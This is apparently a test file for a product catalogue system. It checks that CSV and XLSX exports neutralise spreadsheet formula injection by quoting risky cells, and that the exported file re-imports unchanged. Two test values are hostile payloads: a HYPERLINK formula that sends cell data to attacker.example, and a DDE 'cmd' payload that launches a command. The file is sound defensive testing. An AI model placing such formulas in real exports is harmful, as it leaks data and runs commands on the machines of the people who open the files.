// Spreadsheet formulas in exports (from the adversarial review): a text such as
// `=HYPERLINK(...)` or `@SUM(...)` written as it is into a CSV or XLSX export runs in whoever
// opens the file. Exports of products, categories and attributes write such texts with a `'`
// in front; the same file imported back changes nothing (every item `unchanged`) and the
// values read through the API are the originals, quotes of their own included.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import {
  addFamilyAttribute,
  createAttribute,
  createEnrichmentCatalog,
  uniqueCode,
} from '@pim/db/seed';
import { describe, expect, it } from 'vitest';
import { dataOf } from '../helpers/catalog.ts';
import { importItems, jobItems } from '../helpers/jobs.ts';
import { addTagline, ean, productIdOf, productState } from '../helpers/product-jobs.ts';
import { testServer } from '../helpers/server.ts';
import { exportBytes, importFile, type Format } from '../helpers/structure-jobs.ts';
import { createTenantWorld } from '../helpers/world.ts';

const { server, request } = await testServer();
await server.startWorker();
const w = await createTenantWorld({ users: { admin: { home: 'admin' } }, signIn: ['admin'] });
const catalog = await createEnrichmentCatalog(server.db, w.home.id);
await addTagline(server.db, catalog);
const home = { token: w.tokens.admin, tenant: w.home.id };
// Codes may start with '-': a value column named after one is a formula-like header.
const DASH = `-${uniqueCode('dash')}`;
const dash = await createAttribute(server.db, w.home.id, { code: DASH, name: 'Dash' });
await addFamilyAttribute(server.db, catalog.family, dash.id, {});

const LINK = '=HYPERLINK("http://attacker.example/?x="&A2,"Click")';
const CMD = "@SUM(1+1)*cmd|' /C calc'!A0";

async function load(entity: string, items: unknown[]) {
  const job = await importItems(request, home, entity, items);
  expect(job.result, JSON.stringify(job)).toMatchObject({ failed: 0 });
}

/** The exported file as rows of text cells, header first, whatever its format. */
async function cellsOf(format: Format, file: Buffer): Promise<string[][]> {
  if (format === 'csv') return parse(file.toString('utf8'), { relax_column_count: true });
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ArrayBuffer);
  const rows: string[][] = [];
  workbook.worksheets[0]!.eachRow((row) => {
    rows.push((row.values as unknown[]).slice(1).map((value) => String(value ?? '')));
  });
  return rows;
}

/** The cell of `column` in the row whose `key` column is `code`. */
function cellAt(rows: string[][], key: string, code: string, column: string): string {
  const [header, ...body] = rows;
  const row = body.find((cells) => cells[header!.indexOf(key)] === code);
  expect(row, `${code} in the export`).toBeDefined();
  return row![header!.indexOf(column)]!;
}

/** Imports the exported file back into the tenant it came from: nothing may change. */
async function importBack(entity: string, format: Format, file: Buffer, records: number) {
  const job = await importFile(request, home, entity, format, file);
  const failed = await jobItems(request, home, job.id, 'failed');
  expect(job.status, JSON.stringify(failed)).toBe('completed');
  expect(job.result).toMatchObject({ created: 0, updated: 0, failed: 0, unchanged: records });
}

describe.each(['csv', 'xlsx'] as const)('formulas in %s exports', (format) => {
  it('quotes category names and labels, and imports them back unchanged', async () => {
    const tree = uniqueCode('f_tree');
    const child = `${tree}_child`;
    const categories = [
      { code: tree, name: LINK, labels: { fr_FR: CMD } },
      { code: child, tree, name: "'=1+1", description: '-1+1', labels: { fr_FR: '+33 1 23' } },
    ];
    await load('categories', categories);
    const file = await exportBytes(server, request, home, 'categories', format, { code: tree });
    const rows = await cellsOf(format, file);
    expect(cellAt(rows, 'code', tree, 'name')).toBe(`'${LINK}`);
    expect(cellAt(rows, 'code', tree, 'label-fr_FR')).toBe(`'${CMD}`);
    expect(cellAt(rows, 'code', child, 'name')).toBe("''=1+1");
    expect(cellAt(rows, 'code', child, 'description')).toBe("'-1+1");
    expect(cellAt(rows, 'code', child, 'label-fr_FR')).toBe("'+33 1 23");

    await importBack('categories', format, file, 2);
    const list = dataOf(await request('GET', `/v1/categories?search=${child}`, home));
    expect(list.items.find((c: any) => c.code === child)).toMatchObject({
      name: "'=1+1",
      description: '-1+1',
    });
  });

  it('quotes attribute names, descriptions and labels, and imports them back unchanged', async () => {
    const code = uniqueCode('f_attr');
    await load('attributes', [
      { code, name: CMD, type: 'text', description: LINK, labels: { fr_FR: '-x' } },
    ]);
    const file = await exportBytes(server, request, home, 'attributes', format, { code });
    const rows = await cellsOf(format, file);
    expect(cellAt(rows, 'code', code, 'name')).toBe(`'${CMD}`);
    expect(cellAt(rows, 'code', code, 'description')).toBe(`'${LINK}`);
    expect(cellAt(rows, 'code', code, 'label-fr_FR')).toBe("'-x");

    await importBack('attributes', format, file, 1);
    const list = dataOf(await request('GET', `/v1/attributes?search=${code}`, home));
    expect(list.items.find((a: any) => a.code === code)).toMatchObject({
      name: CMD,
      description: LINK,
    });
  });

  it('quotes product values, and imports them back unchanged', async () => {
    const code = uniqueCode('f_product');
    await load('products', [
      {
        code,
        family: 'shirts',
        categories: ['shirts'],
        values: {
          name: [
            { locale: 'en_US', data: { value: LINK } },
            { locale: 'fr_FR', data: { value: CMD } },
          ],
          tagline: [{ channel: 'ecommerce', locale: 'en_US', data: { value: "'@quoted" } }],
          ean: [{ data: { value: ean() } }],
          rating: [{ data: { value: 4.5 } }],
          [DASH]: [{ data: { value: '-1' } }],
        },
      },
    ]);
    const before = await productState(request, home, code);
    const id = await productIdOf(request, home, code);
    const file = await exportBytes(server, request, home, 'products', format, {
      product_ids: [id],
    });
    const rows = await cellsOf(format, file);
    expect(cellAt(rows, 'code', code, 'name:en_US')).toBe(`'${LINK}`);
    expect(cellAt(rows, 'code', code, 'name:fr_FR')).toBe(`'${CMD}`);
    expect(cellAt(rows, 'code', code, 'tagline@ecommerce:en_US')).toBe("''@quoted");
    expect(cellAt(rows, 'code', code, 'rating')).toBe('4.5');
    expect(rows[0]).toContain(`'${DASH}`);
    expect(cellAt(rows, 'code', code, `'${DASH}`)).toBe('-1');

    await importBack('products', format, file, 1);
    expect(await productState(request, home, code)).toEqual(before);
  });
});
